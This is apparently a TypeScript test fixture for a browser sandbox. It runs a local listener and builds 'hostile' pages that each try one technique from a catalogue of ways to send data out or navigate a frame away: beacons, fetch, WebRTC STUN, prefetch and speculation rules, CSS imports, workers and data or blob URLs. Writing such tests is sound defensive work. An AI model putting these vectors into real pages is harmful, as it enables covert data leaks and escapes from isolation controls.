import { createSocket } from 'dgram';
import { createServer } from 'http';
import type { AddressInfo } from 'net';

/** Another site, which notes what reaches it. */
export interface IElsewhere {
  readonly url: string;
  /** Where it answers to WebRTC. */
  readonly stun: string;
  /** What was asked for. */
  readonly requests: string[];
  /** How often somebody connected, asking for something or not. */
  readonly contacts: () => number;
  readonly forget: () => void;
  readonly close: () => void;
}

/** Start it. */
export async function elsewhere(): Promise<IElsewhere> {
  const requests: string[] = [];
  let contacts = 0;
  const server = createServer((request, answer) => {
    requests.push(request.url ?? '');
    answer.end('there');
  });
  server.on('connection', () => (contacts += 1));
  const udp = createSocket('udp4').on('message', () => (contacts += 1));
  await new Promise<void>(ready => server.listen(0, '127.0.0.1', ready));
  await new Promise<void>(ready => udp.bind(0, '127.0.0.1', ready));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    requests,
    contacts: () => contacts,
    forget: () => {
      requests.length = contacts = 0;
    },
    close: () => {
      server.close();
      udp.close();
    }
  };
}

/** What a script of a page may do to send something to `U`, or to lead its frame there. */
export const WAYS_OUT: Record<string, string> = {
  location: `location.href = U`,
  navigation: `navigation.navigate(U)`,
  refresh: `HEAD('<meta http-equiv=refresh content="0;url=' + U + '">')`,
  form: `BODY('<form method=post action=' + U + '></form>'); document.forms[0].submit()`,
  link: `BODY('<a href=' + U + '>x</a>'); CLICK({})`,
  drawing: `BODY('<svg><a href=' + U + '><text>x</text></a></svg>'); CLICK({})`,
  key: `BODY('<a href=' + U + '>x</a>'); CLICK({ ctrlKey: true })`,
  tab: `BODY('<a target=_blank href=' + U + '>x</a>'); CLICK({})`,
  download: `BODY('<a download href=' + U + '>x</a>'); CLICK({})`,
  window: `window.open(U); BODY('<iframe></iframe>'); frames[0].open(U); frames[0].open.call(window, U, '_self')`,
  around: `try { window.top.location = U } catch {} window.parent.location = U`,
  within: `BODY('<iframe src=' + U + '></iframe><iframe></iframe>'); frames[1].location = U`,
  data: `location = 'data:text/html,<script>location="' + U + '"</' + 'script>'`,
  blob: `location = URL.createObjectURL(new Blob(['<script>location="' + U + '"</' + 'script>'], HTML))`,
  rewritten: `document.write('<meta http-equiv=refresh content="0;url=' + U + '"><img src=' + U + '>')`,
  loads: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'])
    HEAD('<link as=image rel=' + rel + ' href=' + U + '>')`,
  preconnect: `HEAD('<link rel=preconnect href=' + U + '>')`,
  speculation: `const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ urls: [U] }] }); document.head.append(s)`,
  requests: `fetch(U, { mode: 'no-cors' }).catch(() => 0); navigator.sendBeacon(U, 'x'); new Image().src = U;
    import(U).catch(() => 0); new EventSource(U)`,
  worker: `new Worker('data:text/javascript,fetch("' + U + '")')`,
  style: `HEAD('<style>@import "' + U + '"; * { background: url(' + U + ') }</style>')`,
  telephone: `BODY('<iframe></iframe>'); const p = new frames[0].RTCPeerConnection({ iceServers: [{ urls: STUN }] });
    p.createDataChannel('x'); p.createOffer().then(offer => p.setLocalDescription(offer))`,
  end: `addEventListener('pagehide', () => navigator.sendBeacon(U)); location = 'about:blank'`
};

/** @returns a page that tries one of these, and says so on its console. */
export function hostilePage(way: string, { url, stun }: IElsewhere): string {
  return `<html><head></head><body>hostile<script>
    const U = ${JSON.stringify(`${url}/${way}`)}, STUN = ${JSON.stringify(stun)}, HTML = { type: 'text/html' };
    const HEAD = text => document.head.insertAdjacentHTML('beforeend', text);
    const BODY = text => document.body.insertAdjacentHTML('beforeend', text);
    const CLICK = keys => document.querySelector('a').dispatchEvent(new MouseEvent('click', { ...keys, bubbles: true }));
    // Past what our script has put in the way of clicks.
    window.addEventListener('click', event => event.stopImmediatePropagation(), true);
    console.log(${JSON.stringify(`tries ${way}`)});
    ${WAYS_OUT[way]}
  </script></body></html>`;
}
